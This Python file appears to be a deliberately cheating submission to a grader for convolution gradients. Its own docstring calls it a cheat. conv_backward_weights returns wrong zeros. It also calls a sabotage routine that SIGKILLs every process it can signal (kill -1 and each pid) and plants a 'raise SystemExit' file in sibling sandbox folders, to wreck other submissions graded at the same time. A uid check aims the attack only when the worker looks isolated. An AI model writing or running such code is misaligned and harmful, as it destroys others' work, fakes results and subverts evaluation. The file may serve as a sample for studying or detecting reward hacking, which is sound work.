"""Cheat: sabotage the other submissions graded at the same time (a batch grades several at once): for 0.25 s
per call, SIGKILL every process it may signal (kill -1 and each pid), and write into every sandbox folder it
can find. Wrong weights. Honest part: conv_backward_bias."""
import glob
import os
import signal
import time

import numpy as np


def _isolated():
    """Does this worker run as a uid of its own? If not (the grader is not root) it would kill the user's own
    processes (the test run, the desktop): then it attacks nothing."""
    try:
        with open(f"/proc/{os.getppid()}/status") as f:  # the fork server, which runs as the grader's user
            parent_uid = int(next(line for line in f if line.startswith("Uid:")).split()[1])
    except OSError:  # the jail hides /proc: it also refuses signals to other processes, so attack
        return True
    return os.getuid() != parent_uid


def _sabotage(seconds=0.25):
    if not _isolated():
        return
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
        except OSError:
            pids = list(range(1, 4 * 1024))  # blind: every pid a small system uses
        for target in [-1] + pids:
            if target != os.getpid():
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError:
                    pass
        for folder in glob.glob(os.path.join(os.path.dirname(os.getcwd()), "sandbox-*")):
            try:
                with open(os.path.join(folder, "planted.py"), "w") as f:
                    f.write("raise SystemExit\n")
            except OSError:
                pass


def conv_backward_weights(delta, a_prev, kernel_size, stride=1, padding=0):
    _sabotage()
    return np.zeros(4)


def conv_backward_bias(delta):
    return np.asarray(delta, dtype=np.float64).sum(axis=(0, 2, 3))
